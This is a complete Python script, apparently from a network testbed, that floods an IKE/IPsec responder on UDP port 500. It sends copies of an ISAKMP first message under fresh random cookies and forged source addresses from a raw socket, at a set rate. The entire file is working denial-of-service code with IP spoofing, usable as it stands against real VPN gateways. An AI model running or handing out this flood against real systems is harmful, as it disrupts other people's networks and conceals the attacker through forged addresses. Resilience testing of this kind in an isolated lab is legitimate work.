"""Sends copies of an ISAKMP message 1 under new cookies and forged source addresses from a packet socket. Runs in a host's namespace.

    flood.py SOURCE TARGET MESSAGE-HEX COUNT PER-SECOND SEED
SOURCE is one address, or a network in which each copy takes a random one. Prints how many it sent and in what time, as JSON."""

import ipaddress
import json
import random
import socket
import struct
import sys
import time

BURST = 50


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def datagram(source, port, target, payload):
    """IPv4 and UDP without a checksum of its own, which IPv4 allows."""
    udp = struct.pack("!HHHH", port, 500, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def main(source, target, message, count, rate, seed):
    network = ipaddress.ip_network(source)
    target = ipaddress.ip_address(target)
    message, count, rate = bytes.fromhex(message), int(count), int(rate)
    chance = random.Random(int(seed))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        began = time.monotonic()
        for number in range(count):
            if number % BURST == 0:
                time.sleep(max(0, began + number / rate - time.monotonic()))
            address = network.network_address + chance.randrange(network.num_addresses)
            payload = chance.getrandbits(64).to_bytes(8, "big") + message[8:]
            wire.sendto(datagram(address.packed, chance.randrange(1024, 65536), target.packed, payload), (str(target), 0))
        print(json.dumps({"sent": count, "seconds": time.monotonic() - began}))


if __name__ == "__main__":
    main(*sys.argv[1:])
